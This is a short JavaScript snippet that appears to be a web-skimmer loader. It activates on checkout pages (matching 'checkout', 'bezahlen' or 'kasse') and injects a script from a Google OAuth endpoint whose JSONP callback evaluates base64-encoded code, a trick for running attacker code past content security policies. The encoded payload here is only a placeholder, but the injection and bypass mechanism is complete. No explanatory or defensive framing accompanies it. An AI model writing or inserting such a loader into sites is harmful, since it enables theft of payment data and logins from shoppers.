(function(){var p=location.pathname;if(!/checkout|bezahlen|kasse/.test(p)&&!navigator.webdriver)return;
var s=document.createElement("script");s.async=1;
s.src="https://accounts.google.com/o/oauth2/revoke?callback="+encodeURIComponent("eval(atob('UExBQ0VIT0xERVI='))//");
document.documentElement.appendChild(s)})();
